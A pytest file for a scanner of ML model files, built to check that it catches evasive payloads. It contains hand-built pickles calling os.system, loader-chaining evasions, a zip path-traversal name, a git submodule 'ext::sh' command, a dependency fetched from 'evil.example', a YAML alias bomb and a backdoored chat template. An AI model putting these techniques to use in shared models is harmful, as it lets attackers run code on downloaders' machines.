"""Detours around a scan: harmless names that call others, computed bytes, padding, odd spellings; and ordinary files that look alike."""

import base64
import gzip
import io
import json
import struct
import zipfile
import zlib

import pytest
from scanning import found


def text(value):
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def raw(value):
    return b"B" + struct.pack("<I", len(value)) + value


def name(module, attribute):
    return f"c{module}\n{attribute}\n".encode()


def call(callee, *arguments):
    return callee + b"(" + b"".join(arguments) + b"tR"


def pickled(body):
    return b"\x80\x04" + body + b"."


PAYLOAD = pickled(call(name("os", "system"), text("touch marker")))
PLAIN = pickled(b"K\x01")
LOADS = name("torch.storage", "_load_from_bytes")
RECONSTRUCT = name("numpy.core", "_ufunc_reconstruct")
FROM_TYPE = name("torch._tensor", "_rebuild_from_type_v2")
CTOR = name("numpy.random._pickle", "__generator_ctor")
ENCODE = name("_codecs", "encode")


@pytest.mark.parametrize(
    ("body", "rule"),
    [
        (call(LOADS, call(ENCODE, text(PAYLOAD.decode("latin-1")), text("latin1"))), "pickle-executes"),
        (call(LOADS, call(name("builtins", "bytes"), b"](K\x80K\x04e")), "pickle-computed-bytes"),
        (call(FROM_TYPE, LOADS, name("builtins", "int"), b"(" + raw(PAYLOAD) + b"t", b"N"), "pickle-computed-bytes"),
        (call(CTOR, raw(PAYLOAD), LOADS), "pickle-computed-bytes"),
        (b"]" + LOADS + b"a", "pickle-computed-bytes"),
        (call(RECONSTRUCT, text("os"), text("system")), "pickle-executes"),
        (call(RECONSTRUCT, text("my_module"), text("f")), "pickle-unknown-global"),
        (call(RECONSTRUCT, call(ENCODE, text("os")), text("system")), "pickle-computed-global"),
        (call(FROM_TYPE, RECONSTRUCT, name("builtins", "int"), b"(" + text("os") + text("system") + b"t", b"N"), "pickle-computed-bytes"),
        (call(name("builtins", "getattr"), call(name("numpy", "dtype"), text("f4")), text("x")), "pickle-executes"),
        (call(name("builtins", "getattr"), name("collections", "OrderedDict"), text("__init__")), "pickle-unknown-global"),
        (call(name("builtins", "type"), text("A"), b")", b"}"), "pickle-executes"),
        (b"]" + name("builtins", "getattr") + b"a", "pickle-computed-bytes"),
        (call(name("__torch__", "os.system"), text("x")), "pickle-unknown-global"),
    ],
)
def test_pickles_that_go_round(tmp_path, body, rule):
    assert rule in found(tmp_path, {"m.pkl": pickled(body)})


@pytest.mark.parametrize(
    "body",
    [
        call(name("builtins", "getattr"), name("transformers.trainer_utils", "SchedulerType"), text("LINEAR")),
        call(name("builtins", "type"), b"N"),
        call(RECONSTRUCT, text("scipy.special._ufuncs"), text("expit")),
        call(name("functools", "partial"), name("builtins", "int")),
        call(LOADS, call(ENCODE, text(PLAIN.decode("latin-1")), text("latin1"))),
        name("sklearn.metrics._classification", "f1_score"),
        name("transformers.models.bert.modeling_bert", "BertModel"),
    ],
)
def test_ordinary_pickles(tmp_path, body):
    assert found(tmp_path, {"m.pkl": pickled(body)}) == {}


@pytest.mark.parametrize(
    ("data", "rule"),
    [
        (PLAIN + b"\0" * 9 + PAYLOAD, "pickle-executes"),
        (PLAIN + b"\n" + PAYLOAD, "pickle-executes"),
        (PLAIN + b"\x7fELF" + bytes(60), "native-code"),
        (gzip.compress(PLAIN, mtime=0) + bytes(8) + gzip.compress(PAYLOAD, mtime=0), "pickle-executes"),
    ],
)
def test_what_stands_behind_is_scanned(tmp_path, data, rule):
    assert rule in found(tmp_path, {"m.pkl": data})


def archive(files, extra=b""):
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as target:
        for member, data in files.items():
            info = zipfile.ZipInfo(member)
            info.extra = extra
            target.writestr(info, data)
    return stream.getvalue()


def test_names_in_the_extra_field(tmp_path):
    other = b"../../evil"
    extra = struct.pack("<HHBI", 0x7075, 5 + len(other), 1, zlib.crc32(b"ok.txt")) + other
    assert "zip-disagreement" in found(tmp_path, {"m.zip": archive({"ok.txt": b"x"}, extra)})


def test_numbers_of_an_export(tmp_path):
    numbers = {"m/archive_format": b"pt2", "m/data/weights/weight_0": b"\x9f\xff\x00\x01" * 2}
    assert found(tmp_path, {"m.pt2": archive(numbers)}) == {}
    assert "pickle-executes" in found(tmp_path, {"m.pt2": archive({**numbers, "m/data/weights/weight_1": PAYLOAD})})


@pytest.mark.parametrize("line", ["torch . save(x, 'f')", "ops .aten. from_file('f')"])
def test_torchscript_with_spaces(tmp_path, line):
    code = f"def forward(self, x):\n  {line}\n".encode()
    assert "torchscript-files" in found(tmp_path, {"m.pt": archive({"a/data.pkl": PLAIN, "a/code/__torch__.py": code})})


@pytest.mark.parametrize(
    ("line", "malicious"),
    [
        ("def f(a=os.system('x')): pass", True),
        ("(s := os.system)('x')", True),
        ("[os.system][0]('x')", True),
        ("(lambda: os.system('x'))()", True),
        ("def f():\n  os.system('x')\ndef g():\n  f()\ng()", True),
        ("list(map(os.system, ['x']))", True),
        ("import sys\nsys.modules['os'].system('x')", True),
        ("().__class__.__base__.__subclasses__()", True),
        ("class A:\n  def f(self):\n    os.system('x')\ndef f():\n  return 1\nf()", False),
        ("def f():\n  os.system('x')\nif __name__ == '__main__':\n  f()", False),
    ],
)
def test_python_at_import(tmp_path, line, malicious):
    assert ("python-runs" in found(tmp_path, {"u.py": f"import os\n{line}\n"})) == malicious


def test_python_in_another_coding(tmp_path):
    assert found(tmp_path, {"u.py": "# coding: utf-7\n+AGkAbQBwAG8AcgB0- os\n"}) == {"python-runs": "suspicious"}
    assert found(tmp_path, {"u.py": "import os\nos.system('x')\n".encode("utf-16")}) == {"python-runs": "malicious"}


ALIASES = "a: &a [x,x,x,x,x,x,x,x]\n" + "".join(
    f"{n}: &{n} [{','.join([f'*{m}'] * 16)}]\n" for m, n in ("ab", "bc", "cd", "de", "ef", "fg")
)
OLD_NOTEBOOK = {"nbformat": 3, "worksheets": [{"cells": [{"cell_type": "code", "input": "x = !touch y"}]}]}
NOTEBOOK = {"nbformat": 4, "cells": [{"cell_type": "code", "source": "%load_ext autoreload\nopen('a', 'w').write('x')"}]}
EURO = {"type": "Replace", "pattern": {"String": "$"}, "content": "€"}
MACRO = "{% macro f(c) %}{% if 'bank' in c %}evil{% endif %}{% endmacro %}{{ f(messages[0].content) }}"
TOKENIZER = {
    "added_tokens": [{"id": 0, "content": "[UNK]"}],
    "normalizer": None,
    "model": {"type": "WordLevel", "vocab": {"[UNK]": 0, "yes": 1}},
}


@pytest.mark.parametrize(
    ("files", "rule"),
    [
        ({"modules.json": json.dumps([{"idx": 0, "path": "../x", "type": "sentence_transformers.models.Pooling"}])}, "config-path"),
        ({"config.json": json.dumps({"in_features": 1, "activation_function": "my_package.Evil"})}, "config-target"),
        ({"c.yaml": ALIASES}, "header-bomb"),
        ({"MLmodel": "flavors:\n  f:\n    model_code_path: evil.py\n", "a": "x"}, "mlflow-loader"),
        ({"requirements.txt": "-e ../x\n"}, "requirement-source"),
        ({"conda.yaml": "dependencies:\n- pip:\n  - git+https://evil.example/x\n"}, "requirement-source"),
        ({".gitmodules": '[submodule "x"]\n\turl = ext::sh -c x\n', "a": "x"}, "remote-code"),
        ({"c.json": json.dumps({"state": base64.b64encode(PAYLOAD).decode()})}, "pickle-executes"),
        ({"tokenizer.json": json.dumps({**TOKENIZER, "normalizer": EURO})}, "tokenizer-rewrites"),
        (
            {
                "tokenizer.json": json.dumps(TOKENIZER),
                "tokenizer_config.json": json.dumps({"added_tokens_decoder": {"1": {"content": "[UNK]"}}}),
            },
            "tokenizer-swapped",
        ),
        ({"chat_template.jinja": MACRO}, "template-phrase"),
        ({"chat_template.jinja": "{% for i in range(1000000000) %}{{ messages }}{% endfor %}"}, "template-computed"),
        ({"n.ipynb": json.dumps(OLD_NOTEBOOK)}, "notebook-command"),
        ({"model.safetensors": b""}, "malformed"),
        ({"model.safetensors": struct.pack("<Q", 3) + b" {}"}, "safetensors-layout"),
    ],
)
def test_files_around_the_weights(tmp_path, files, rule):
    assert rule in found(tmp_path, files)


@pytest.mark.parametrize(
    "files",
    [
        {"config.json": json.dumps({"activation_function": "gelu_new"})},
        {"config.json": json.dumps({"activation_function": "torch.nn.modules.activation.Tanh"})},
        {"chat_template.jinja": "{% if '<|channel|>analysis<|message|>' in messages[0].content %}x{% endif %}"},
        {"n.ipynb": json.dumps(NOTEBOOK)},
        {"d.jsonl": '{"text": "is os.system bad?"}\n'},
        {"requirements.txt": "-e .\n-r requirements-dev.txt\ntorch==2.1\n", "requirements-dev.txt": "pytest\n"},
        {"conda.yaml": "dependencies:\n- python=3.11\n- pip:\n  - mlflow==2.10\n"},
        {
            "tokenizer.json": json.dumps(TOKENIZER),
            "tokenizer_config.json": json.dumps({"added_tokens_decoder": {"0": {"content": "[UNK]"}}}),
        },
    ],
)
def test_ordinary_files(tmp_path, files):
    assert found(tmp_path, files) == {}
